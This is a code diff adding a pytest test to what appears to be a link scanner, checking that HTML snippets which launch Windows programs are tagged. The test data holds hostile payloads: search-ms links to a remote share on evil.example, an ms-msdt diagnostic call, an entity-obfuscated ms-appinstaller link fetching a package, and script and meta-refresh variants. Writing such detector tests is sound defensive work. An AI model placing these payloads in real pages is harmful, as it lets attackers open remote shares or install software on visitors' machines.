@@ -139,6 +139,23 @@ def test_these_links_of_pages_were_missed(page: str) -> None:
 
 
 @pytest.mark.parametrize(
+    ("page", "expected"),
+    [
+        ('<a href="search-ms:query=a&crumb=location:%5C%5Cevil.example%5Cshare">x</a>', True),
+        ("<a href=' MS-msdt:/id PCWDiagnostic'>x</a>", True),
+        ("<a href=ms-&#97;ppinstaller:?source=https://evil.example/a.msix>x</a>", True),
+        ("<script>location.assign('search-ms:crumb=location:\\\\\\\\evil.example')</script>", True),
+        ('<meta http-equiv=refresh content="0;url=search-ms:crumb=location:%5C%5Cevil.example">', True),
+        ('<p>Links such as "search-ms:" and (ms-msdt:) start programs.</p>', False),
+        ('<a href="https://example.org/?about=search-ms">search-ms:</a>', False),
+    ],
+)
+def test_a_link_that_starts_a_program_was_only_seen_in_documents(page: str, expected: bool) -> None:
+    """A click, or the page itself, opens a folder of somebody else's machine, or runs a diagnostic tool."""
+    assert ("url:starts-program" in found(page).tags) == expected
+
+
+@pytest.mark.parametrize(
     "text", ["https://(@evil.example/", "a https://'@evil.example/ b", "<https://(x)@evil.example>"]
 )
 def test_these_links_of_texts_were_missed(text: str) -> None:
